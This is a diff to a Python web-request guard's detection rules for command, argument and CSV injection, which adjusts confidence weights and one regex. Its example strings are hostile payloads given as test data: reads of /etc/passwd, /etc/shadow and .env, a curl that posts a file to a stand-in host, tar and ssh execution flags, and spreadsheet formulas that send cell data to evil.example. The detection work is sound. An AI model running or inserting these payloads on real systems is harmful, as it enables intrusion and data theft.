@@ -5,7 +5,15 @@ from __future__ import annotations
 
 from functools import partial
 
-from guard_wsgi.detection.indicator import CERTAIN, MEDIUM, STRONG, WEAK, Family, Indicator
+from guard_wsgi.detection.indicator import (
+    CERTAIN,
+    DECISIVE,
+    MEDIUM,
+    STRONG,
+    WEAK,
+    Family,
+    Indicator,
+)
 
 _CWE = "CWE-78"
 _OWASP = "OWASP Testing Guide WSTG-INPV-12"
@@ -174,7 +182,7 @@ SHELL = (
     _cmd("bare_command", r"^[\s'\"]*(?:cat|wget|curl|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|nslookup|ls|dir|ps|pwd|id|phpinfo|hostname|ver|env|set|net\s+user|ps\s+aux|ls\s+-\w+|uname\s+-\w|id\s+-\w|w|arp\s+-a|ps\s+-ef)[\s'\";|&#]*$", _OWASP, WEAK, examples=('id',)),
     _cmd("edge_separator", r"^\s*(?:;|\|\|?|&&?|`|\$\()\s*[\w/.]|\S\s*[;|&`]\s*$", _OWASP, WEAK, examples=('&&',)),
     _cmd("newline_command", r"(?:\n|\r|%0a|%0d|\\n)[ \t\x0b\x0c]*(?:/(?:usr/)?s?bin/)?(?:cat|id|ls|wget|curl|whoami|ping|uname|nc|bash|sh|sleep|ifconfig|ipconfig|dir|netstat|nslookup)(?:\s+[-/\w.]|\s*$|[|&;`%])", _OWASP, examples=('\\nid;',)),
-    _cmd("line_of_its_own", r"[\r\n][ \t]*(?:sudo )?(?:/(?:usr/)?s?bin/)?(?:(?:cat|tac|head|tail|less|more|nl|rm|mv|cp|tee|touch|chmod|chown|find|grep|bash|sh|zsh|ksh|dash|source|python3?|perl|php|ruby|node|dd|tar|ls|crontab) (?:-[^\s]+ )*(?:\d+ )?['\"]?(?:/\w|~/|\.[a-z./]|\$[({a-z])|(?:bash|sh|zsh|ksh|dash) \w+[ \t]*(?:[\r\n]|$)|(?:curl|wget|nc|ncat|telnet|nslookup|dig|ping|ssh|scp|tftp|socat) [^\r\n]*(?:\w\.[a-z]{2}|\d\.\d|:/|@/|\$[({a-z]))", _OWASP, 0.5,
+    _cmd("line_of_its_own", r"[\r\n][ \t]*(?:sudo )?(?:/(?:usr/)?s?bin/)?(?:(?:cat|tac|head|tail|less|more|nl|rm|mv|cp|tee|touch|chmod|chown|find|grep|bash|sh|zsh|ksh|dash|source|python3?|perl|php|ruby|node|dd|tar|ls|crontab) (?:-[^\s]+ )*(?:\d+ )?['\"]?(?:/\w|~/|\.[a-z./]|\$[({a-z])|(?:bash|sh|zsh|ksh|dash) \w+[ \t]*(?:[\r\n]|$)|(?:curl|wget|nc|ncat|telnet|nslookup|dig|ping|ssh|scp|tftp|socat) [^\r\n]*(?:\w\.[a-z]{2}|\d\.\d|:/|@/|\$[({a-z]))", _OWASP, 0.45,
          prefilter=_LINES, examples=("x\ncat /etc/passwd\nok", "x\nsh x\nok", "x\ncurl -d @/etc/passwd e.vil\nok", "a\ncat .env\nb", "a\ntail -n 5 /etc/shadow\nb")),
     _cmd("newline_last", r"[\r\n][ \t]*(?:env|id|set|ls|ps|whoami|uname|ver|dir|pwd|netstat|ifconfig|ipconfig|hostname|printenv)\s*(?:;|\||&|`|$)", _OWASP, STRONG, examples=('127.0.0.1\nid',)),
     _cmd("admin_command", r"^[\s'\"\\;|&(`]*" + _PREFIX + r"*" + _BIN + r"?['\"]?" + ADMIN_PROGRAMS + r"['\"]?(?:\.exe)?(?:\s|[;|&<>,/]|$)", _GTFO, MEDIUM, examples=(';htop',)),
@@ -219,7 +227,7 @@ SHELL = (
     _cmd("argument_exec", r"^[\s'\"]*(?:--(?:checkpoint-action|use-compress-program|to-command|rsh|rsh-command|rmt-command|upload-pack|receive-pack|open-files-in-pager|ext-diff|info-script|new-volume-script|post-file|body-file|use-askpass|load-extension|pager|exec|exec-path|eval|preprocessor|pre|diff-program|compress-prog)(?:=|\s)\s*\S|--checkpoint=\d+\s*$|-o\s?(?:proxycommand|localcommand|permitlocalcommand|queuedirectory)\b|-c\s+(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath)|alias\.\w+|protocol\.ext\.allow)\s*=|--(?:output|log-?file|directory-prefix|output-document|config)=(?:/|https?:|\.\.)|-o\s*/(?:etc|var|tmp|usr|home|root|srv|opt|dev)/|-e\s+(?:sh|bash|perl|python\d?|ruby)\s)", "CWE-88; GTFOBins; tar, git, ssh, curl and rsync manuals", CERTAIN,
           prefilter=(r"[=\x0b \"']--(?:checkpoint|use-compress|to-command|rsh|rmt-command|upload-pack|receive-pack|open-files|ext-diff|info-script|new-volume|post-file|body-file|use-askpass|load-extension|pager|exec|eval|preprocessor|pre=|diff-program|compress-prog|output|log|directory-prefix|config=)", r"-o ?(?:proxyc|localc|permitl|queued)", r"-c (?:core\.|alias\.|protocol\.)", r"[=\x0b\"]-o ?/", r"[=\x0b\"]-e (?:sh|bash|perl|python|ruby)"),
           examples=("--checkpoint-action=exec=sh x.sh", "--use-compress-program=id", "-oProxyCommand=id", "-c core.sshCommand=id", "--output=/var/www/x.php")),
-    Indicator("shell.formula", "csv_injection", r"^[\s'\"]*[=+@-][^\r\n]{0,60}(?:\b\w{1,40}\|\s*['\"]?|\b(?:hyperlink|webservice|importxml|importdata|importhtml|importrange|importfeed|filterxml|dde|dderequest|ddeinitialize|rtd|call|register\.id)\s*\()", "OWASP: CSV Injection", CERTAIN,
+    Indicator("shell.formula", "csv_injection", r"^[\s'\"]*[=+@-](?:[^=\r\n][^\r\n]*)?(?:\w\|\s?['\"/]|\b(?:hyperlink|webservice|importxml|importdata|importhtml|importrange|importfeed|filterxml|dde|dderequest|ddeinitialize|rtd|call|register\.id)\s*\()", "OWASP: CSV Injection", DECISIVE,
           prefilter=(r"[=+@\"-](?:hyperlink|webservice|import(?:xml|data|html|range|feed)|filterxml|dde|rtd|call|register\.id) ?\(", r"\w\|'"),
           examples=("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C notepad'!A0", "=WEBSERVICE(\"http://evil.example/\"&A1)")),
     _cmd("leading_program", r"^[\s'\"^]*(?:;|\|\||&&|\^?&)\s*" + _PROGRAMS + r"(?:\.exe)?(?:\s|$|[|<>])", _OWASP, STRONG,
